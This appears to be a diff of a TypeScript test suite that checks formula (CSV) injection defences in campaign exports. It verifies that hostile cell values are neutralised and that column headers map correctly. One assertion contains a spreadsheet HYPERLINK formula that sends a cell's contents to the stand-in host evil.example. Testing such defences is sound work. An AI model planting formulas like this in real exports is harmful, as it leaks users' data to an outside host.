@@ -12,6 +12,7 @@ import { writeColumnsToParquet } from '../../../warehouse/parquet';
 import { parsePipeline } from '../../../pipelines/load';
 import { buildSegments } from '../../../segments';
 import { FORMULA_START, neutraliseFormula } from '../../../segments/csv-safe';
+import { csvColumns } from '../../../segments/lists';
 import { tempDir } from '../../helpers/warehouse';
 
 const HOSTILE = [
@@ -82,6 +83,7 @@ describe('CSV injection in campaign exports', () => {
       assert.equal(list.rows, ids.length);
       const read = async (sql: string, file: string) =>
         (await conn.runAndReadAll(sql, { f: file })).getRowObjects() as Record<string, string>[];
+      const headers = csvColumns(def);
       const csv = await read(`SELECT * FROM read_csv($f, all_varchar = true, header = true)`, list.csvPath);
       const parquet = await read(`SELECT * FROM read_parquet($f)`, list.parquetPath);
       assert.equal(csv.length, parquet.length);
@@ -95,17 +97,22 @@ describe('CSV injection in campaign exports', () => {
       // CSV: no text cell starts like a formula, and each is the neutralised form of the exact value.
       for (const [i, row] of csv.entries()) {
         const exact = parquet[i];
-        for (const col of ['user_id', 'email', 'action', 'rfm_segment', 'funnel_stage', 'reason_1'])
-          assert.equal(row[col] ?? '', neutraliseFormula(String(exact[col] ?? '')), `${col} of row ${i}`);
+        // The CSV shows each column under its readable header (reasons as phrases: why_1 under "Reason 1").
+        for (const col of ['user_id', 'email', 'action', 'rfm_segment', 'funnel_stage', 'why_1'])
+          assert.equal(
+            row[headers[col]?.header ?? col] ?? '',
+            neutraliseFormula(String(exact[col] ?? '')),
+            `${col} of row ${i}`,
+          );
         for (const [col, v] of Object.entries(row))
           assert.ok(!FORMULA_START.test(v ?? ''), `${col}: ${JSON.stringify(v)}`);
       }
-      const ownIds = new Set(csv.map((c) => c.user_id));
+      const ownIds = new Set(csv.map((c) => c[headers.user_id.header]));
       for (const h of HOSTILE) assert.ok(ownIds.has(neutraliseFormula(h)), JSON.stringify(h));
       assert.ok(ownIds.has('\'=HYPERLINK("http://evil.example/?"&A1,"click")'));
       assert.ok(ownIds.has('plain-user') && ownIds.has("o'brien"), 'ordinary ids are untouched');
       // Numbers are not text: propensities stay numbers in the CSV.
-      assert.ok(csv.every((c) => !Number.isNaN(Number(c.propensity))));
+      assert.ok(csv.every((c) => !Number.isNaN(Number(c[headers.propensity.header]))));
     });
   });
 });
